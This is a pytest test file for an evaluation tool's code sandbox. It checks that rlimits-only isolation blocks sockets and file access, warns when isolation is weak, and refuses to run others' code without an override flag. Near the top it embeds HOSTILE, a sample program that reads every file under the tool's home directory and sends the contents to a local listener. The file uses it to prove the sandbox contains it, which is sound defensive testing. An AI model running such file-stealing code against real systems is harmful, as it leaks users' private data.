"""The code sandbox's weakest mode (rlimits only, issue 26 item 3): it hides $PHR_HOME and the call cache and
blocks sockets; every run that executes code says which isolation it uses, a weak one as a WARNING; `score` and
`submit` (someone else's code) refuse a weak one unless --allow-weak-sandbox, which results.json records.

The weak mode is forced the way tests/test_sandbox.py forces it (``PHR_SANDBOX_ISOLATION``), or reached the way
the issue found it: bwrap and unshare missing from PATH.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import tempfile
import uuid
from pathlib import Path

import pytest
from typer.testing import CliRunner

from phr.cli import app
from phr.eval import sandbox as sb
from phr.eval.dataset import load_eval_dataset
from phr.llm.cache import CallCache
from phr.llm.types import Sample

RLIMITS_UID_DROP = os.geteuid() == 0 and sb._python_for_uid_drop(sb.default_python()) is not None

# The hostile answer of the issue: read everything under $PHR_HOME (the call cache) and send it to a listener on
# 127.0.0.1; it prints what each step did.
HOSTILE = """\
import os, socket
home, port = {home!r}, {port}
loot = b""
try:
    for d, _, files in os.walk(home, onerror=lambda e: print("list denied", e.errno)):
        for f in files:
            try:
                loot += open(os.path.join(d, f), "rb").read()
                print("read", f)
            except OSError as e:
                print("read denied", f, e.errno)
except OSError as e:
    print("walk denied", e.errno)
try:
    s = socket.create_connection(("127.0.0.1", port), timeout=2)
    s.sendall(loot or b"nothing read")
    print("sent", len(loot))
except OSError as e:
    print("connect denied", e.errno)
"""


@pytest.fixture
def open_phr_home(monkeypatch):
    """$PHR_HOME in a world-traversable folder (pytest's tmp_path is not: its parent is 0700), holding a call
    cache with a secret answer in it, as `eval` leaves it. Yields (home, secret)."""
    base = Path(tempfile.mkdtemp(prefix="phr-weak-", dir="/tmp"))
    base.chmod(0o755)
    home = base / "phr-home"
    monkeypatch.setenv("PHR_HOME", str(home))
    secret = "SECRET-ANSWER-" + uuid.uuid4().hex
    cache = CallCache()
    cache.put("k" * 64, "{}", "openai", None, Sample(0, secret, "stop", 1, 1, 0.1, "gpt-x"))
    on_disk = b"".join(p.read_bytes() for p in home.rglob("*") if p.is_file())
    assert secret.encode() in on_disk  # what the hostile program is after is really there
    try:
        yield home, secret
    finally:
        cache.close()
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture
def listener():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.setblocking(False)
    try:
        yield srv
    finally:
        srv.close()


def _nothing_arrived(srv: socket.socket) -> None:
    """No connection reached the listener (a finished handshake would wait in its accept queue)."""
    with pytest.raises(BlockingIOError):
        srv.accept()


def test_phr_home_and_the_call_cache_are_their_owners_only(open_phr_home):
    home, _ = open_phr_home
    assert home.stat().st_mode & 0o777 == 0o700
    assert (home / "calls.sqlite").stat().st_mode & 0o777 == 0o600
    assert all(p.stat().st_mode & 0o077 == 0 for p in home.iterdir())  # -wal / -shm too


def test_hostile_program_cannot_read_the_cache_nor_send_it_in_rlimits_mode(open_phr_home, listener, monkeypatch):
    home, secret = open_phr_home
    monkeypatch.setenv("PHR_SANDBOX_ISOLATION", "rlimits")
    v = sb.run_program(HOSTILE.format(home=str(home), port=listener.getsockname()[1]), timeout_s=10)
    assert (v.status, v.isolation) == ("passed", "rlimits"), v
    assert "connect denied 13" in v.stdout and "sent" not in v.stdout, v.stdout  # EACCES from the seccomp filter
    _nothing_arrived(listener)
    if not RLIMITS_UID_DROP:
        pytest.skip("rlimits mode as the caller's own uid: the caller's files stay readable (docs/sandbox.md)")
    assert v.uid is not None
    assert "list denied 13" in v.stdout and "read " not in v.stdout, v.stdout
    assert secret not in v.stdout


_AS_CALLER = r"""
import importlib.util, sys
spec = importlib.util.spec_from_file_location("phr_sandbox_copy", sys.argv[1])
sb = importlib.util.module_from_spec(spec)
sys.modules[spec.name] = sb
spec.loader.exec_module(sb)
v = sb.run_program(sys.argv[2], timeout_s=10, isolation="rlimits")
print(v.status, v.isolation, v.uid)
sys.stdout.write(v.stdout)
"""


def test_hostile_program_contained_when_it_runs_as_the_callers_own_uid(open_phr_home, listener):
    """A non-root caller (uid 65534 here, via setpriv) in rlimits mode: the program has the caller's uid, so file
    modes cannot hide $PHR_HOME; Landlock does, and seccomp blocks the socket."""
    home, secret = open_phr_home
    python = sb._python_for_uid_drop(sb.default_python())
    setpriv = shutil.which("setpriv")
    if os.geteuid() != 0 or python is None or setpriv is None or not sb._accessible_to_others(sb.__file__):
        pytest.skip("needs root, setpriv, and an interpreter and module file uid 65534 can use")
    for p in (home, *home.rglob("*")):
        os.chown(p, 65534, 65534)
    hostile = HOSTILE.format(home=str(home), port=listener.getsockname()[1])
    argv = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", python, "-I", "-S", "-c", _AS_CALLER]
    res = subprocess.run(
        [*argv, sb.__file__, hostile],
        capture_output=True,
        text=True,
        timeout=60,
        cwd="/",
        env={"PATH": "/usr/bin:/bin"},
    )
    assert res.returncode == 0, res.stderr
    first, *lines = res.stdout.splitlines()
    assert first == "passed rlimits None"  # the program ran as its caller's uid
    assert lines == ["list denied 13", "connect denied 13"], res.stdout
    assert secret not in res.stdout
    _nothing_arrived(listener)


def test_rlimits_mode_blocks_every_socket_family_but_keeps_socketpair(monkeypatch):
    monkeypatch.setenv("PHR_SANDBOX_ISOLATION", "rlimits")
    code = (
        "import socket\n"
        "for fam, kind in ((socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_STREAM),"
        " (socket.AF_UNIX, socket.SOCK_STREAM), (socket.AF_NETLINK, socket.SOCK_RAW)):\n"
        "    try:\n        socket.socket(fam, kind)\n        print('open', fam.name)\n"
        "    except PermissionError:\n        print('denied', fam.name)\n"
        "a, b = socket.socketpair()\na.sendall(b'x')\nprint('pair', b.recv(1))\n"
        "import asyncio\nasyncio.run(asyncio.sleep(0))\nprint('asyncio ok')\n"
    )
    v = sb.run_program(code)
    assert v.status == "passed", v
    assert v.stdout.splitlines() == [
        "denied AF_INET",
        "denied AF_INET6",
        "denied AF_UNIX",
        "denied AF_NETLINK",
        "pair b'x'",
        "asyncio ok",
    ]


@pytest.fixture
def no_bwrap_nor_unshare(monkeypatch):
    """The issue's machine: neither bwrap nor unshare on PATH, no PHR_SANDBOX_ISOLATION."""
    real_which = sb.shutil.which
    monkeypatch.setattr(
        sb.shutil, "which", lambda name, *a, **k: None if name in ("bwrap", "unshare") else real_which(name, *a, **k)
    )
    monkeypatch.setattr(sb, "_PROBES", {})
    monkeypatch.delenv("PHR_SANDBOX_ISOLATION", raising=False)


def test_the_fallback_to_rlimits_is_a_warning(no_bwrap_nor_unshare):
    report = sb.isolation_report()
    assert (report.mode, report.best, report.forced, report.weak) == ("rlimits", "rlimits", False, True)
    line = report.line()
    assert line.startswith("WARNING: weak code sandbox: rlimits only (neither bwrap nor unshare works here)")
    assert "sudo scripts/install-sandbox.sh" in line and "\n" not in line
    assert ("sockets blocked (seccomp)" if report.sockets_blocked else "sockets NOT blocked") in line


def test_a_mode_weaker_than_this_machine_has_is_a_warning(monkeypatch):
    if not sb.isolation_available("bwrap"):
        pytest.skip("bwrap does not work here")
    monkeypatch.delenv("PHR_SANDBOX_ISOLATION", raising=False)
    assert sb.isolation_report().line().startswith("code sandbox: bwrap (")
    assert not sb.isolation_report().weak
    for forced in ("rlimits", *(["unshare"] if sb.isolation_available("unshare") else [])):
        monkeypatch.setenv("PHR_SANDBOX_ISOLATION", forced)
        report = sb.isolation_report()
        assert report.weak and report.best == "bwrap"
        assert report.line().startswith("WARNING: weak code sandbox: ")
        assert f"PHR_SANDBOX_ISOLATION={forced}, though bwrap works here" in report.line()
        assert "unset PHR_SANDBOX_ISOLATION" in report.line()


# ---- the commands -------------------------------------------------------------------------------------------------


def _submission(folder: Path, path: Path, code_answer: str = "x") -> Path:
    """One sample per instance of the mini folder; code questions answered with ``code_answer``."""
    ds = load_eval_dataset(folder)
    rows = [
        {
            "instance_id": i.id,
            "sample": 0,
            "response": f"```python\n{code_answer}```" if i.task_type == "code" else "x",
        }
        for i in ds.select(("B", "B+T", "B+H"))
    ]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def _score(sub: Path, folder: Path, *extra: str, command: str = "score"):
    args = [command, str(sub), "--dataset", str(folder), "--model", "org/m", "--model-revision", "1"]
    args += ["--scorer", "none", "--no-plots", *extra]
    return CliRunner().invoke(app, args)


@pytest.mark.parametrize("command", ["score", "submit"])
def test_others_code_refused_in_a_weak_sandbox_without_the_flag(mini_folder, tmp_path, no_bwrap_nor_unshare, command):
    sub = _submission(mini_folder, tmp_path / "sub.jsonl")
    hub = tmp_path / "hub"
    extra = ["--repo", "org/results", "--hub", str(hub)] if command == "submit" else []
    r = _score(sub, mini_folder, *extra, command=command)
    assert r.exit_code == 2, r.output
    assert r.stderr.splitlines() == [
        "error: the code sandbox here is weak (rlimits only: neither bwrap nor unshare works here): to run someone "
        "else's code, install bubblewrap (sudo scripts/install-sandbox.sh, docs/sandbox.md), or pass "
        "--allow-weak-sandbox (recorded in results.json)"
    ]
    assert r.stdout == ""  # refused while planning: nothing printed, nothing written
    assert not (tmp_path / "sub.scored").exists() and not hub.exists()


def test_submit_with_the_flag_runs_contained_and_records_it(
    mini_folder, tmp_path, open_phr_home, listener, monkeypatch
):
    """The hostile answer as every code answer of a submission, scored and published with --allow-weak-sandbox in
    the forced rlimits mode: a WARNING first, nothing reaches the listener, the choice is in results.json."""
    home, _ = open_phr_home
    monkeypatch.setenv("PHR_SANDBOX_ISOLATION", "rlimits")
    hostile = HOSTILE.format(home=str(home), port=listener.getsockname()[1])
    sub = _submission(mini_folder, tmp_path / "sub.jsonl", code_answer=hostile)
    hub = tmp_path / "hub"
    r = _score(sub, mini_folder, "--allow-weak-sandbox", "--repo", "org/results", "--hub", str(hub), command="submit")
    assert r.exit_code == 0, r.output
    assert r.stderr.splitlines()[0].startswith(  # the plan's warning, on stderr (stdout may be piped to a file)
        "warning: weak code sandbox: rlimits only (PHR_SANDBOX_ISOLATION=rlimits"
    ), r.stderr
    assert "weak code sandbox" not in r.stdout, r.stdout
    _nothing_arrived(listener)
    scored = json.loads((tmp_path / "sub.scored" / "results.json").read_text())
    published = [json.loads(p.read_text()) for p in hub.rglob("results/org--m/*.json")]
    assert published and published[0]["config"]["sandbox"] == scored["config"]["sandbox"]
    box = scored["config"]["sandbox"]
    assert (box["isolation"], box["weak"], box["allow_weak_sandbox"], box["sockets_blocked"]) == (
        "rlimits",
        True,
        True,
        True,
    )
    samples = [json.loads(line) for line in (tmp_path / "sub.scored" / "samples.jsonl").read_text().splitlines()]
    code = [s for s in samples if s["grader"] == "sandbox"]
    assert code and all(s["extracted"] == "failed" for s in code)  # ran (and failed the problem's tests)


def test_own_runs_print_the_sandbox_and_are_not_refused(mini_folder, tmp_path, monkeypatch):
    """`eval phrbench` (own code: a warning, never a refusal), at the start, before anything is generated."""
    args = ["eval", "phrbench", "--model", "openai-compatible:http://127.0.0.1:9#m", "--dataset", str(mini_folder)]
    args += ["--limit", "1", "--samples", "1", "--scorer", "none", "--dry-run"]
    monkeypatch.setenv("PHR_SANDBOX_ISOLATION", "rlimits")
    r = CliRunner().invoke(app, args)
    assert r.exit_code == 0, r.output
    assert r.stderr.splitlines()[0].startswith(  # on stderr: a user keeping stderr, or piping stdout, sees it
        "warning: weak code sandbox: rlimits only (PHR_SANDBOX_ISOLATION=rlimits"
    ), r.stderr
    assert "weak code sandbox" not in r.stdout, r.stdout
    if sb.isolation_available("bwrap"):
        monkeypatch.delenv("PHR_SANDBOX_ISOLATION")
        r = CliRunner().invoke(app, args)
        assert r.exit_code == 0 and r.stderr == "", r.output
        assert "code sandbox: bwrap (" in r.stdout.splitlines()[1]


def test_score_in_the_best_sandbox_records_it(mini_folder, tmp_path, monkeypatch):
    monkeypatch.delenv("PHR_SANDBOX_ISOLATION", raising=False)
    best = sb.best_isolation()
    if best == "rlimits":
        pytest.skip("neither bwrap nor unshare works here")
    r = _score(_submission(mini_folder, tmp_path / "sub.jsonl", "print(1)\n"), mini_folder)
    assert r.exit_code == 0 and r.stderr == "", r.output
    assert r.stdout.splitlines()[1].startswith(f"code sandbox: {best} (")
    box = json.loads((tmp_path / "sub.scored" / "results.json").read_text())["config"]["sandbox"]
    assert (box["isolation"], box["best_available"], box["weak"], box["allow_weak_sandbox"]) == (
        best,
        best,
        False,
        False,
    )
